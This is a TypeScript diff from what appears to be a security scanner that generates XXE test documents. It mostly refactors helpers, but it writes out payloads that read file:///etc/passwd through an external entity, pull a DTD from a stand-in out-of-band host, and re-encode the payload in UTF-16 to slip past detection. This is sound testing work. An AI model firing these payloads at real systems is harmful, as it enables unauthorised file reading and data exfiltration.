@@ -1,7 +1,7 @@
 import type { WholeWriter } from '../../make/whole.ts';
+import { named } from './named.ts';
+import { type, xml } from './wholes-xml.ts';
 import { zipOf } from './zip.ts';
-
-const xml = 'application/xml';
 
 /** Documents in archives, fields and odd encodings, and those that include, transform or point elsewhere. */
 export function writeDisguisedXml(write: WholeWriter): void {
@@ -9,18 +9,9 @@ export function writeDisguisedXml(write: WholeWriter): void {
   writeDisguises(write);
 }
 
-const named =
-  (write: WholeWriter): ((technique: string) => void) =>
-  technique =>
-    write.as({ class: 'xxe', technique });
-
-/** A document type that takes an entity from elsewhere. */
-const type = (root: string, from: string, name = 'ent'): string =>
-  `<!DOCTYPE ${root} [<!ENTITY ${name} SYSTEM "${from}">]>`;
-
 /** Documents in archives. */
 function writeOffice(write: WholeWriter): void {
-  const technique = named(write);
+  const technique = named(write, 'xxe');
   const bad = `<?xml version="1.0" standalone="yes"?>${type('x', 'file:///etc/passwd')}<x>&ent;</x>`;
   const far = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % d SYSTEM "http://o7.oast.example/o.dtd">%d;]><x/>';
   technique('office documents');
@@ -47,7 +38,7 @@ function writeOffice(write: WholeWriter): void {
 
 /** The same, past those who look for it. */
 function writeDisguises(write: WholeWriter): void {
-  const technique = named(write);
+  const technique = named(write, 'xxe');
   const plain = `<?xml version="1.0"?>${type('a', 'file:///etc/passwd')}<a>&ent;</a>`;
   technique('other encodings');
   write.send('/in', xml, Buffer.from(`\ufeff${plain.replace('?>', ' encoding="UTF-16"?>')}`, 'utf16le'));
